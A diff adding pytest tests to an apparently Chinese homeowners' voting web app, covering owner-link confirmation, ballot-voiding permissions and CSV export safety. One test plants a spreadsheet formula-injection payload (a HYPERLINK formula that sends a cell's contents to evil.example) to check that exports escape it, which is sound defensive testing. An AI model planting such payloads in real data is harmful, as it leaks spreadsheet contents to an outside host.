@@ -93,6 +93,16 @@ def test_edit_home_and_link_an_owner(client, world, db, settings):
     assert response.status_code == 422 and owner.id in response.context["link_errors"]
     response = post_form(client, page, f"/owners/owner-records/{owner.id}/link", {"phone": person.phone})
     assert response.status_code == 303
+    shown = client.get(page).context
+    assert shown["owners"][0][1] is None  # asked, not linked: the owner confirms it
+    [(link, account)] = shown["pending"]
+    assert account.id == person.id
+    factories.sign_in(client, person.login)
+    mine = client.get("/owners/links")
+    assert link.code in mine.text
+    response = post_form(client, "/owners/links", f"/owners/my-links/{link.id}/confirm", {})
+    assert response.status_code == 303
+    factories.sign_in(client, world.moderator.login)
     assert client.get(page).context["owners"][0][1].id == person.id
 
 
@@ -166,6 +176,9 @@ def test_staff_enter_paper_and_proxy_ballots_and_void(client, world, db):
     proxy = next(b for b in listing.ballots if b.channel == "proxy")
     scan = client.get(f"/owners/ballots/{proxy.id}/scan")
     assert scan.content == b"%PDF-1.7 proxy"
+    response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": "委托书未签名"})
+    assert response.status_code == 403  # who entered a ballot does not void it
+    factories.sign_in(client, world.moderator2.login)
     response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": ""})
     assert response.status_code == 422 and proxy.id in response.context["row_errors"]
     response = post_form(client, page, f"/owners/ballots/{proxy.id}/void", {"reason": "委托书未签名"})
@@ -270,3 +283,22 @@ def test_downloaded_exports_recount_to_the_page_result(client, world, db, tmp_pa
     printed = json.loads(capsys.readouterr().out)
     assert printed == outcome_json(page.context["outcome"])
     assert (printed["owners_voted"], printed["area_voted"], printed["passed"]) == (3, "500.00", False)
+
+
+def test_homes_csv_export_never_hands_a_spreadsheet_a_formula(client, world, db):
+    """An owner's name typed as a formula comes out as text in both homes.csv exports."""
+    import csv
+
+    home = world.owner_row("qian").home_id
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    services.update_home(db, world.staff, home, building="1", room="107", area="100.00",
+                         owners=f"{evil};@SUM(1+1)", developer_held=False, now=clock.utcnow())
+    matter = open_matter(world)
+    factories.sign_in(client, world.moderator.login)
+    for url in (f"/estates/{world.estate.id}/owners/homes.csv", f"/owners/matters/{matter.id}/homes.csv"):
+        response = client.get(url)
+        assert response.status_code == 200
+        rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        assert any(c.startswith("'=HYPERLINK") for c in cells)
